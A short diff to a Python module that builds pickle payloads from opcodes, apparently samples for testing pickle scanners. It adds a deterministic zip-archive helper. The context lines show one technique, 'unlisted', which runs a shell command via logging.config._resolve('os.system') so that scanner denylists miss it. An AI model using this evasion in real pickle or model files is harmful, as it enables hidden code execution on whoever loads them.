@@ -1,6 +1,8 @@
 """What the techniques are written with: opcodes by name, and the list of techniques."""
 
+import io
 import struct
+import zipfile
 
 TECHNIQUES = {}
 
@@ -126,3 +128,12 @@ def pickled(body=TOUCH, n=2):
 def unlisted(command=COMMAND):
     """Runs a command by a function that no list of dangerous ones has."""
     return apply(call("logging.config", "_resolve", text("os.system")), text(command))
+
+
+def zipped(members, compression=zipfile.ZIP_STORED):
+    """A zip archive of pairs of names and bytes, the same in every run."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", compression) as z:
+        for member, data in members:
+            z.writestr(zipfile.ZipInfo(member, (2020, 1, 1, 0, 0, 0)), data, compression)
+    return out.getvalue()
